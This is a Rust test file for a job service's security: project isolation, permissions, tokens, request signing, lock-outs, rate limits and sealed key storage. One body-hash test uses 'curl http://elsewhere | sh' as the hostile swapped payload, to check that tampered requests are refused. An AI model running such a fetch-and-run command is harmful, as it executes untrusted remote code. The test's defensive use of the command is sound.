//! Authentication, permissions and isolation over HTTP: signatures, tokens, project
//! boundaries on every endpoint, read-only users, rate limits and lock-outs.

use std::collections::BTreeMap;
use std::time::Duration;

use litejobs::client::{issue_token, Client, ClientAuth, ClientError};
use litejobs::domain::ProjectId;
use litejobs::iam;
use litejobs::sign::{self, Credentials};
use litejobs::store::NewServer;
use reqwest::Method;
use serde_json::json;

use crate::backend_tests;
use crate::helpers::{job_request, user_with_policy, Backend, TestApp};

async fn second_project(app: &TestApp) -> String {
    let project = iam::create_project(app.store.as_ref(), "second", None)
        .await
        .expect("project");
    for id in ["sim-server-01", "sim-server-02"] {
        app.store
            .upsert_server(
                &ProjectId::parse(&project.id).expect("id"),
                NewServer {
                    id: id.to_string(),
                    name: id.to_string(),
                    kind: "simulated".into(),
                    sim_outcome: Some("SUCCESS".into()),
                    cloud_server: BTreeMap::new(),
                    now_ms: litejobs::domain::now_ms(),
                },
            )
            .await
            .expect("server");
    }
    project.id
}

fn api_error(result: Result<impl std::fmt::Debug, ClientError>) -> (u16, String) {
    match result {
        Err(ClientError::Api {
            status,
            error_code,
            request_id,
            ..
        }) => {
            assert!(!request_id.is_empty(), "errors carry a request id");
            (status, error_code)
        }
        other => panic!("expected an API error, got {other:?}"),
    }
}

async fn projects_are_isolated_on_every_endpoint(app: TestApp) {
    let b = second_project(&app).await;
    let bob = user_with_policy(&app, "bob", &b, iam::FULL_ACCESS).await;
    let a_job = app.create_job("in-a", &["sim-server-01"]).await;
    let a_other = app.create_job("also-in-a", &["sim-server-01"]).await;
    let b_job = bob
        .create_job(&job_request("in-b", &["sim-server-01"]), None)
        .await
        .expect("bob creates in b");

    // Each sees exactly its own project, totals included.
    let a_list = app.admin.list_jobs(&[]).await.expect("a");
    assert_eq!(a_list.total, 2);
    assert!(a_list.data.iter().all(|j| j.id != b_job.id));
    let b_list = bob.list_jobs(&[]).await.expect("b");
    assert_eq!((b_list.total, b_list.data.len()), (1, 1));
    assert_eq!(b_list.data[0].id, b_job.id);
    let by_id = bob
        .list_jobs(&[("id", a_job.id.clone())])
        .await
        .expect("filter");
    assert_eq!(by_id.total, 0);
    let by_status = bob
        .list_jobs(&[("status", "PROCESSING".into())])
        .await
        .expect("status");
    assert!(by_status.total <= 1);

    // Another project's job ids are unknown here.
    assert_eq!(
        api_error(bob.get_job(&a_job.id).await),
        (404, "ModelArts.0102".into())
    );
    let deleted = bob
        .delete_jobs(std::slice::from_ref(&a_job.id))
        .await
        .expect("delete");
    assert_eq!(deleted.total, 0);
    assert_ne!(
        app.admin.get_job(&a_job.id).await.expect("a job").status,
        "DELETED"
    );

    // A project without a grant is forbidden for every endpoint.
    let bob_in_a = bob.for_project(&app.project_id);
    let admin_in_b = app.admin.for_project(&b);
    for client in [&bob_in_a, &admin_in_b] {
        let forbidden = (403, "ModelArts.0105".to_string());
        assert_eq!(api_error(client.list_jobs(&[]).await), forbidden);
        assert_eq!(api_error(client.get_job(&a_job.id).await), forbidden);
        assert_eq!(api_error(client.get_job(&b_job.id).await), forbidden);
        assert_eq!(
            api_error(
                client
                    .create_job(&job_request("x", &["sim-server-01"]), None)
                    .await
            ),
            forbidden
        );
        assert_eq!(
            api_error(
                client
                    .delete_jobs(&[a_job.id.clone(), b_job.id.clone()])
                    .await
            ),
            forbidden
        );
        assert_eq!(api_error(client.list_templates(&[]).await), forbidden);
        assert_eq!(
            api_error(
                client
                    .get_template("6f1d0c5e-4a1b-4c55-9a0e-000000000001")
                    .await
            ),
            forbidden
        );
    }
    // Nothing changed anywhere.
    assert_eq!(app.admin.list_jobs(&[]).await.expect("a").total, 2);
    assert_eq!(bob.list_jobs(&[]).await.expect("b").total, 1);
    assert_eq!(
        app.admin.get_job(&a_other.id).await.expect("a").name,
        "also-in-a"
    );
}

async fn project_header_must_match_the_path(app: TestApp) {
    let b = second_project(&app).await;
    let admin_b = app.admin.for_project(&b);
    // Path names the admin's project, X-Project-Id names another.
    let path = app.admin.project_path("/dev-servers/jobs");
    let r = admin_b
        .send(Method::GET, &path, &[], None, &[])
        .await
        .expect("sent");
    assert_eq!(r.status, 403);
    assert_eq!(r.json()["error_code"], "ModelArts.0105");
}

async fn read_only_users_list_and_get_but_not_change(app: TestApp) {
    let carol = user_with_policy(&app, "carol", &app.project_id, iam::READ_ONLY).await;
    let job = app.create_job("seen", &["sim-server-01"]).await;
    assert_eq!(carol.list_jobs(&[]).await.expect("list").total, 1);
    assert_eq!(carol.get_job(&job.id).await.expect("get").id, job.id);
    assert!(carol.list_templates(&[]).await.expect("templates").total >= 5);
    let forbidden = (403, "ModelArts.0105".to_string());
    assert_eq!(
        api_error(
            carol
                .create_job(&job_request("nope", &["sim-server-01"]), None)
                .await
        ),
        forbidden
    );
    assert_eq!(
        api_error(carol.delete_jobs(std::slice::from_ref(&job.id)).await),
        forbidden
    );
    assert_eq!(app.admin.list_jobs(&[]).await.expect("list").total, 1);
    assert_ne!(
        app.admin.get_job(&job.id).await.expect("job").status,
        "DELETED"
    );
}

async fn custom_policies_grant_exactly_their_actions(app: TestApp) {
    iam::put_policy(
        app.store.as_ref(),
        "creators",
        &[
            "modelarts:devserverJob:create".to_string(),
            "modelarts:devserverJob:get".to_string(),
        ],
    )
    .await
    .expect("policy");
    let dave = user_with_policy(&app, "dave", &app.project_id, "creators").await;
    let job = dave
        .create_job(&job_request("made", &["sim-server-01"]), None)
        .await
        .expect("create");
    assert_eq!(job.user_name, "dave");
    assert_eq!(dave.get_job(&job.id).await.expect("get").user_name, "dave");
    assert_eq!(
        api_error(dave.list_jobs(&[]).await),
        (403, "ModelArts.0105".into())
    );
}

async fn tokens_authenticate_are_scoped_and_revocable(app: TestApp) {
    let profile =
        litejobs::serve::read_profile(&app.dir.path().join("admin.json")).expect("profile");
    let password = profile.password.expect("admin password");
    let token = issue_token(&app.endpoint, "admin", &password, &app.project_id)
        .await
        .expect("token");
    let with_token = Client::new(
        &app.endpoint,
        &app.project_id,
        ClientAuth::Token(token.clone()),
    )
    .expect("client");
    app.create_job("t", &["sim-server-01"]).await;
    assert_eq!(with_token.list_jobs(&[]).await.expect("list").total, 1);
    // Scoped: the same token on another project's path is refused.
    let b = second_project(&app).await;
    assert_eq!(
        api_error(with_token.for_project(&b).list_jobs(&[]).await),
        (403, "ModelArts.0105".into())
    );
    // Wrong password, unknown user, no grant in the scope.
    let wrong = issue_token(&app.endpoint, "admin", "wrong", &app.project_id).await;
    assert_eq!(api_error(wrong), (401, "APIG.0301".into()));
    let unknown = issue_token(&app.endpoint, "nobody", "x", &app.project_id).await;
    assert_eq!(api_error(unknown), (401, "APIG.0301".into()));
    let no_grant = issue_token(&app.endpoint, "admin", &password, &b).await;
    assert_eq!(api_error(no_grant), (403, "ModelArts.0105".into()));
    // The answer has the IAM shape.
    let r = reqwest::Client::new()
        .post(format!("{}/v3/auth/tokens", app.endpoint))
        .json(&json!({"auth": {"identity": {"methods": ["password"], "password": {"user": {"name": "admin", "password": password, "domain": {"name": "admin"}}}}, "scope": {"project": {"name": "default"}}}}))
        .send()
        .await
        .expect("sent");
    assert_eq!(r.status().as_u16(), 201);
    assert!(r.headers().contains_key("x-subject-token"));
    let body: serde_json::Value = r.json().await.expect("json");
    assert_eq!(body["token"]["project"]["id"], app.project_id.as_str());
    assert_eq!(body["token"]["user"]["name"], "admin");
    assert!(body["token"]["expires_at"].is_string());
    // Malformed requests.
    let r = reqwest::Client::new()
        .post(format!("{}/v3/auth/tokens", app.endpoint))
        .json(&json!({"auth": {}}))
        .send()
        .await
        .expect("sent");
    assert_eq!(r.status().as_u16(), 400);
    // Revocation.
    let r = reqwest::Client::new()
        .delete(format!("{}/v3/auth/tokens", app.endpoint))
        .header("X-Auth-Token", &token)
        .header("X-Subject-Token", &token)
        .send()
        .await
        .expect("sent");
    assert_eq!(r.status().as_u16(), 204);
    assert_eq!(
        api_error(with_token.list_jobs(&[]).await),
        (401, "APIG.0301".into())
    );
}

async fn deleted_keys_stop_working(app: TestApp) {
    let erin = user_with_policy(&app, "erin", &app.project_id, iam::FULL_ACCESS).await;
    assert!(erin.list_jobs(&[]).await.is_ok());
    let keys = app
        .store
        .find_user("erin")
        .await
        .expect("find")
        .expect("erin");
    for key in app.store.list_access_keys(&keys.id).await.expect("keys") {
        app.store
            .delete_access_key(&key.access_key)
            .await
            .expect("delete");
    }
    assert_eq!(
        api_error(erin.list_jobs(&[]).await),
        (401, "APIG.0301".into())
    );
}

/// Sends a list request signed at `date` with the admin's key, optionally tampering.
async fn signed_list(
    app: &TestApp,
    date: chrono::DateTime<chrono::Utc>,
    secret: &str,
    extra: &[(&str, &str)],
) -> reqwest::Response {
    let path = app.admin.project_path("/dev-servers/jobs");
    let host = app.addr.to_string();
    let mut headers = vec![
        ("Host".to_string(), host),
        ("Content-Type".to_string(), "application/json".to_string()),
        ("X-Project-Id".to_string(), app.project_id.clone()),
    ];
    for (n, v) in extra {
        headers.push((n.to_string(), v.to_string()));
    }
    let creds = Credentials {
        access_key: app.credentials.access_key.clone(),
        secret_key: secret.to_string(),
    };
    let authorization = sign::sign("GET", &path, "", &mut headers, b"", &creds, date);
    let mut request = reqwest::Client::new().get(format!("{}{path}", app.endpoint));
    for (n, v) in &headers {
        request = request.header(n.as_str(), v.as_str());
    }
    request
        .header("Authorization", authorization)
        .send()
        .await
        .expect("sent")
}

#[tokio::test]
async fn signatures_must_be_fresh_complete_and_correct() {
    let app = TestApp::sqlite().await;
    let secret = app.credentials.secret_key.clone();
    let now = chrono::Utc::now();
    assert_eq!(
        signed_list(&app, now, &secret, &[]).await.status().as_u16(),
        200
    );
    assert_eq!(
        signed_list(&app, now - chrono::TimeDelta::minutes(14), &secret, &[])
            .await
            .status()
            .as_u16(),
        200
    );
    for (label, response) in [
        (
            "stale",
            signed_list(&app, now - chrono::TimeDelta::minutes(20), &secret, &[]).await,
        ),
        (
            "future",
            signed_list(&app, now + chrono::TimeDelta::minutes(20), &secret, &[]).await,
        ),
        (
            "wrong secret",
            signed_list(&app, now, "not-the-secret-key-000", &[]).await,
        ),
        (
            "temporary credentials",
            signed_list(&app, now, &secret, &[("X-Security-Token", "tok")]).await,
        ),
    ] {
        assert_eq!(response.status().as_u16(), 401, "{label}");
        let body: serde_json::Value = response.json().await.expect("json");
        assert_eq!(body["error_code"], "APIG.0301", "{label}");
    }
}

#[tokio::test]
async fn a_tampered_body_is_refused_and_changes_nothing() {
    let app = TestApp::sqlite().await;
    let path = app.admin.project_path("/dev-servers/jobs");
    let body = serde_json::to_vec(&job_request("signed", &["sim-server-01"])).expect("json");
    let mut headers = vec![
        ("Host".to_string(), app.addr.to_string()),
        (
            "Content-Type".to_string(),
            "application/json;charset=utf-8".to_string(),
        ),
    ];
    let authorization = sign::sign(
        "POST",
        &path,
        "",
        &mut headers,
        &body,
        &app.credentials,
        chrono::Utc::now(),
    );
    let tampered = String::from_utf8(body)
        .expect("utf8")
        .replace("signed", "forged");
    let mut request = reqwest::Client::new().post(format!("{}{path}", app.endpoint));
    for (n, v) in &headers {
        request = request.header(n.as_str(), v.as_str());
    }
    let r = request
        .header("Authorization", authorization)
        .body(tampered)
        .send()
        .await
        .expect("sent");
    assert_eq!(r.status().as_u16(), 401);
    assert_eq!(app.admin.list_jobs(&[]).await.expect("list").total, 0);
}

#[tokio::test]
async fn repeated_failures_lock_a_key_and_unknown_keys_look_the_same() {
    let app = TestApp::sqlite().await;
    let secret = app.credentials.secret_key.clone();
    let now = chrono::Utc::now();
    let mut messages = Vec::new();
    for _ in 0..5 {
        let r = signed_list(&app, now, "wrong-secret-key-000000", &[]).await;
        assert_eq!(r.status().as_u16(), 401);
        let body: serde_json::Value = r.json().await.expect("json");
        messages.push(body["error_msg"].clone());
    }
    // Locked: even the right secret is refused now.
    let r = signed_list(&app, now, &secret, &[]).await;
    assert_eq!(r.status().as_u16(), 401);
    // An unknown key gets the very same answer.
    let stranger = Client::new(
        &app.endpoint,
        &app.project_id,
        ClientAuth::AkSk(Credentials {
            access_key: "UNKNOWNACCESSKEY0000".into(),
            secret_key: "whatever-secret-0000".into(),
        }),
    )
    .expect("client");
    let path = stranger.project_path("/dev-servers/jobs");
    let r = stranger
        .send(Method::GET, &path, &[], None, &[])
        .await
        .expect("sent");
    assert_eq!(r.status, 401);
    assert_eq!(r.json()["error_msg"], messages[0]);
    assert!(messages.iter().all(|m| *m == messages[0]));
    // Other keys are unaffected.
    let frank = user_with_policy(&app, "frank", &app.project_id, iam::FULL_ACCESS).await;
    assert!(frank.list_jobs(&[]).await.is_ok());
}

#[tokio::test]
async fn the_rate_limit_answers_429_with_retry_after_per_key() {
    let app = TestApp::spawn_with(Backend::Sqlite, |c| {
        c.rate_limit = 2;
        c.rate_burst = 3;
    })
    .await
    .expect("app");
    let mut throttled = None;
    for _ in 0..10 {
        let r = app
            .admin_send(Method::GET, "/dev-servers/jobs", &[], None)
            .await;
        if r.status == 429 {
            throttled = Some(r);
            break;
        }
    }
    let r = throttled.expect("throttled within 10 quick requests");
    assert_eq!(r.json()["error_code"], "APIG.0308");
    let retry: u64 = r.headers["retry-after"]
        .to_str()
        .ok()
        .and_then(|v| v.parse().ok())
        .expect("Retry-After seconds");
    assert!(retry >= 1);
    // Another key has its own budget.
    let grace = user_with_policy(&app, "grace", &app.project_id, iam::FULL_ACCESS).await;
    assert!(grace.list_jobs(&[]).await.is_ok());
    // And the budget refills.
    tokio::time::sleep(Duration::from_millis(1100)).await;
    assert_eq!(
        app.admin_send(Method::GET, "/dev-servers/jobs", &[], None)
            .await
            .status,
        200
    );
}

#[tokio::test]
async fn tokens_work_on_any_server_sharing_the_database() {
    let first = TestApp::sqlite().await;
    let profile =
        litejobs::serve::read_profile(&first.dir.path().join("admin.json")).expect("profile");
    let token = issue_token(
        &first.endpoint,
        "admin",
        profile.password.as_deref().unwrap_or(""),
        &first.project_id,
    )
    .await
    .expect("token");
    let dir = tempfile::tempdir().expect("dir");
    let mut config = crate::helpers::test_config(dir.path(), &first.database_url);
    config.admin_credentials = first.dir.path().join("admin.json");
    let second = TestApp::start(dir, config).await;
    let client = Client::new(
        &second.endpoint,
        &second.project_id,
        ClientAuth::Token(token),
    )
    .expect("client");
    first.create_job("shared", &["sim-server-01"]).await;
    assert_eq!(client.list_jobs(&[]).await.expect("list").total, 1);
}

backend_tests!(
    projects_are_isolated_on_every_endpoint,
    project_header_must_match_the_path,
    read_only_users_list_and_get_but_not_change,
    custom_policies_grant_exactly_their_actions,
    tokens_authenticate_are_scoped_and_revocable,
    deleted_keys_stop_working,
    demo_credentials_work_only_on_a_simulating_loopback_server,
);

/// A replica on the same database whose settings are those of the tests, adjusted.
async fn replica(
    app: &TestApp,
    adjust: impl FnOnce(&mut litejobs::config::ServeConfig),
) -> TestApp {
    let dir = tempfile::tempdir().expect("dir");
    let mut config = crate::helpers::test_config(dir.path(), &app.database_url);
    config.admin_credentials = app.dir.path().join("admin.json");
    adjust(&mut config);
    TestApp::start(dir, config).await
}

/// The demo account's credentials are public: only a server started with `--simulate` on a
/// loopback address accepts them. Any other start takes them away from the database, and a
/// server that does not accept them refuses them while a simulating replica re-creates them.
async fn demo_credentials_work_only_on_a_simulating_loopback_server(app: TestApp) {
    use litejobs::iam::demo;
    let demo_key = |server: &TestApp| {
        Client::new(
            &server.endpoint,
            demo::PROJECT_ID,
            ClientAuth::AkSk(Credentials {
                access_key: demo::ACCESS_KEY.into(),
                secret_key: demo::SECRET_KEY.into(),
            }),
        )
        .expect("client")
    };
    let demo_token = |server: &TestApp, token: &str| {
        Client::new(
            &server.endpoint,
            demo::PROJECT_ID,
            ClientAuth::Token(token.to_string()),
        )
        .expect("client")
    };
    // `app` simulates on loopback.
    assert!(demo_key(&app).list_jobs(&[]).await.is_ok());
    let token = issue_token(&app.endpoint, demo::USER, demo::PASSWORD, demo::PROJECT_ID)
        .await
        .expect("a demo token");
    assert!(demo_token(&app, &token).list_jobs(&[]).await.is_ok());

    // A replica that does not simulate takes the key, the tokens and the grant away.
    let plain = replica(&app, |c| c.simulate = false).await;
    assert!(app
        .store
        .find_access_key(demo::ACCESS_KEY)
        .await
        .expect("lookup")
        .is_none());
    for server in [&app, &plain] {
        assert_eq!(
            api_error(demo_key(server).list_jobs(&[]).await),
            (401, "APIG.0301".into())
        );
        assert_eq!(
            api_error(demo_token(server, &token).list_jobs(&[]).await),
            (401, "APIG.0301".into())
        );
    }
    assert_eq!(
        api_error(
            issue_token(
                &plain.endpoint,
                demo::USER,
                demo::PASSWORD,
                demo::PROJECT_ID
            )
            .await
        ),
        (401, "APIG.0301".into())
    );
    assert!(plain.admin.list_jobs(&[]).await.is_ok());

    // A simulating replica re-creates them; the plain one still refuses them.
    let simulating = replica(&app, |_| {}).await;
    assert!(demo_key(&simulating).list_jobs(&[]).await.is_ok());
    let token = issue_token(
        &simulating.endpoint,
        demo::USER,
        demo::PASSWORD,
        demo::PROJECT_ID,
    )
    .await
    .expect("a demo token");
    assert!(demo_token(&simulating, &token).list_jobs(&[]).await.is_ok());
    assert_eq!(
        api_error(demo_key(&plain).list_jobs(&[]).await),
        (401, "APIG.0301".into())
    );
    assert_eq!(
        api_error(demo_token(&plain, &token).list_jobs(&[]).await),
        (401, "APIG.0301".into())
    );
    // Nor does it issue a token for the public password, whatever the grants.
    let demo_user = app
        .store
        .find_user(demo::USER)
        .await
        .expect("lookup")
        .expect("the demo user");
    let other = iam::create_project(app.store.as_ref(), "granted-to-demo", None)
        .await
        .expect("project");
    app.store
        .grant(&demo_user.id, &other.id, iam::FULL_ACCESS)
        .await
        .expect("grant");
    for project in [demo::PROJECT_ID, other.id.as_str()] {
        assert_eq!(
            api_error(issue_token(&plain.endpoint, demo::USER, demo::PASSWORD, project).await),
            (401, "APIG.0301".into())
        );
    }
    assert!(
        issue_token(&simulating.endpoint, demo::USER, demo::PASSWORD, &other.id)
            .await
            .is_ok()
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_copy_of_the_database_alone_cannot_sign_requests() {
    use sqlx::Connection;
    let app = TestApp::sqlite().await;
    let mut conn = sqlx::SqliteConnection::connect(&app.database_url)
        .await
        .expect("open the database");
    let stored: Vec<(String, String)> =
        sqlx::query_as("SELECT access_key, secret_key FROM access_keys")
            .fetch_all(&mut conn)
            .await
            .expect("read keys");
    assert!(!stored.is_empty());
    for (ak, secret) in &stored {
        assert!(secret.starts_with("sealed:v1:"), "{ak} is stored sealed");
        assert!(!secret.contains(&app.credentials.secret_key));
    }
    let copy_dir = tempfile::tempdir().expect("dir");
    let copy = copy_dir.path().join("copy.db");
    sqlx::query(&format!("VACUUM INTO '{}'", copy.display()))
        .execute(&mut conn)
        .await
        .expect("copy the database");
    let mut config =
        crate::helpers::test_config(copy_dir.path(), &format!("sqlite://{}", copy.display()));
    config.admin_credentials = app.dir.path().join("admin.json");
    // The copy has every row but not the master key: it cannot be served (a restore that
    // forgot the key is told so, rather than served with every key refused), and no key
    // of its own is made beside it.
    let refused = match litejobs::serve::Server::bind(config.clone()).await {
        Ok(_) => panic!("a copy without its master key was served"),
        Err(e) => format!("{e:#}"),
    };
    let key_file = copy_dir.path().join("copy.db.key");
    assert!(
        refused.contains(&key_file.display().to_string()) && refused.contains("restore it"),
        "{refused}"
    );
    assert!(!key_file.exists());
    // With another database's key it is refused too.
    std::fs::write(&key_file, format!("{}\n", "A".repeat(43) + "=")).expect("key");
    let refused = match litejobs::serve::Server::bind(config).await {
        Ok(_) => panic!("a copy with another key was served"),
        Err(e) => format!("{e:#}"),
    };
    assert!(refused.contains("another database's"), "{refused}");
    assert!(app.admin.list_jobs(&[]).await.is_ok());
}

#[tokio::test]
async fn derived_key_signatures_are_accepted_for_their_day_and_service_only() {
    let app = TestApp::sqlite().await;
    let now = chrono::Utc::now();
    let path = app.admin.project_path("/dev-servers/jobs");
    let send = |day: String, region: &str, service: &str| {
        let date = now.format(sign::DATE_FORMAT).to_string();
        let headers = vec![
            ("Host".to_string(), app.addr.to_string()),
            ("Content-Type".to_string(), "application/json".to_string()),
            ("X-Project-Id".to_string(), app.project_id.clone()),
            ("X-Sdk-Date".to_string(), date.clone()),
        ];
        let signed: Vec<String> = ["content-type", "host", "x-project-id", "x-sdk-date"]
            .map(String::from)
            .to_vec();
        let borrowed = sign::borrowed_headers(&headers);
        let parts = sign::RequestParts {
            method: "GET",
            path: &path,
            query: "status=FINISHED",
            headers: &borrowed,
            body: b"",
        };
        let scope = format!("{day}/{region}/{service}");
        let canonical = sign::canonical_request(&parts, &signed);
        let auth = sign::Authorization {
            access_key: app.credentials.access_key.clone(),
            signature: sign::derived_signature(
                &app.credentials.secret_key,
                &app.credentials.access_key,
                &scope,
                &date,
                &canonical,
            ),
            scope: Some(scope),
            signed_headers: signed,
        };
        let mut request =
            reqwest::Client::new().get(format!("{}{path}?status=FINISHED", app.endpoint));
        for (n, v) in &headers {
            request = request.header(n.as_str(), v.as_str());
        }
        request.header("Authorization", auth.render()).send()
    };
    let today = now.format("%Y%m%d").to_string();
    let status = |day: &str, region: &str, service: &str| {
        let sent = send(day.to_string(), region, service);
        async move { sent.await.expect("sent").status().as_u16() }
    };
    // This service, today, in a region (one server may hold several regions' projects).
    assert_eq!(status(&today, "cn-north-4", "modelarts").await, 200);
    assert_eq!(status(&today, "ap-southeast-1", "modelarts").await, 200);
    let yesterday = (now - chrono::TimeDelta::days(1))
        .format("%Y%m%d")
        .to_string();
    assert_eq!(status(&yesterday, "cn-north-4", "modelarts").await, 401);
    assert_eq!(status(&today, "cn-north-4", "iam").await, 401);
}

#[tokio::test]
async fn an_administrator_whose_credentials_cannot_be_written_is_not_kept() {
    let dir = tempfile::tempdir().expect("dir");
    let url = format!("sqlite://{}", dir.path().join("litejobs.db").display());
    let mut config = crate::helpers::test_config(dir.path(), &url);
    // Under a file: no folder can be made there.
    std::fs::write(dir.path().join("a-file"), "").expect("file");
    config.admin_credentials = dir.path().join("a-file").join("admin.json");
    let error = match litejobs::serve::Server::bind(config.clone()).await {
        Ok(_) => panic!("a server whose administrator has no credentials started"),
        Err(e) => format!("{e:#}"),
    };
    assert!(
        error.contains("cannot write the administrator's credentials"),
        "{error}"
    );
    // The next start, able to write them, creates the administrator and writes them.
    config.admin_credentials = dir.path().join("admin.json");
    let app = TestApp::start(dir, config).await;
    assert!(app.admin.list_jobs(&[]).await.is_ok());
    let users = app.store.list_users().await.expect("users");
    assert_eq!(
        users.iter().filter(|u| u.name == "admin").count(),
        1,
        "{users:?}"
    );
}

/// A create signed over `signed_body` with `X-Sdk-Content-Sha256: declared`, sent with
/// `sent_body`; its status.
async fn create_with_declared_hash(
    app: &TestApp,
    declared: &str,
    signed_body: &[u8],
    sent_body: &[u8],
) -> u16 {
    let path = app.admin.project_path("/dev-servers/jobs");
    let mut headers = vec![
        ("Host".to_string(), app.addr.to_string()),
        ("Content-Type".to_string(), "application/json".to_string()),
        ("X-Sdk-Content-Sha256".to_string(), declared.to_string()),
    ];
    let auth = sign::sign(
        "POST",
        &path,
        "",
        &mut headers,
        signed_body,
        &app.credentials,
        chrono::Utc::now(),
    );
    let mut request = reqwest::Client::new()
        .post(format!("{}{path}", app.endpoint))
        .body(sent_body.to_vec());
    for (n, v) in &headers {
        request = request.header(n.as_str(), v.as_str());
    }
    let r = request.header("Authorization", auth).send().await;
    r.expect("sent").status().as_u16()
}

#[tokio::test]
async fn a_declared_body_hash_must_be_the_bodys_own() {
    let app = TestApp::sqlite().await;
    let body = |cmd: &str| {
        json!({"name": "declared", "type": "COMMON", "server_ids": ["sim-server-01"],
               "items": [{"type": "COMMON", "spec": {"cmd": cmd}}]})
        .to_string()
        .into_bytes()
    };
    let (benign, swapped) = (body("echo hi"), body("curl http://elsewhere | sh"));
    let hash = sign::sha256_hex(&benign);
    // Another body under the signature made for the first: refused.
    assert_eq!(
        create_with_declared_hash(&app, &hash, &benign, &swapped).await,
        401
    );
    // A body the signature does not cover at all: refused.
    let unsigned = "UNSIGNED-PAYLOAD";
    assert_eq!(
        create_with_declared_hash(&app, unsigned, &swapped, &swapped).await,
        401
    );
    assert_eq!(app.admin.list_jobs(&[]).await.expect("list").total, 0);
    // The body's own hash, declared: as good as none.
    assert_eq!(
        create_with_declared_hash(&app, &hash, &benign, &benign).await,
        200
    );
    let upper = hash.to_ascii_uppercase();
    assert_eq!(
        create_with_declared_hash(&app, &upper, &benign, &benign).await,
        200
    );
    assert_eq!(app.admin.list_jobs(&[]).await.expect("list").total, 2);
    app.stop().await;
}

/// A `+` in a signed query is read by the handler as it was signed (a `+`, never a space):
/// a captured request whose `%2B` is turned into `+` asks for the same thing, not another.
#[tokio::test]
async fn a_plus_in_a_signed_query_means_what_was_signed() {
    let app = TestApp::sqlite().await;
    let path = app.admin.project_path("/dev-servers/jobs/events");
    let send = |query: &'static str| {
        let mut headers = vec![
            ("Host".to_string(), app.addr.to_string()),
            ("Content-Type".to_string(), "application/json".to_string()),
            ("X-Project-Id".to_string(), app.project_id.clone()),
        ];
        let creds = app.credentials.clone();
        let path = path.clone();
        let endpoint = app.endpoint.clone();
        async move {
            let authorization = sign::sign(
                "GET",
                &path,
                "last_event_id=1%2B",
                &mut headers,
                b"",
                &creds,
                chrono::Utc::now(),
            );
            let mut request = reqwest::Client::new().get(format!("{endpoint}{path}?{query}"));
            for (n, v) in &headers {
                request = request.header(n.as_str(), v.as_str());
            }
            let response = request
                .header("Authorization", authorization)
                .send()
                .await
                .expect("sent");
            let status = response.status().as_u16();
            // (An opened stream would never end: its body is not read.)
            let body = match status {
                400 => response.text().await.unwrap_or_default(),
                _ => String::new(),
            };
            (status, body)
        }
    };
    // Signed as `1+`, sent either way: both are `1+`, which is no event id.
    for query in ["last_event_id=1%2B", "last_event_id=1+"] {
        let (status, body) = send(query).await;
        assert_eq!(status, 400, "{query}: {body}");
        assert!(body.contains("Last-Event-ID"), "{query}: {body}");
    }
    app.stop().await;
}
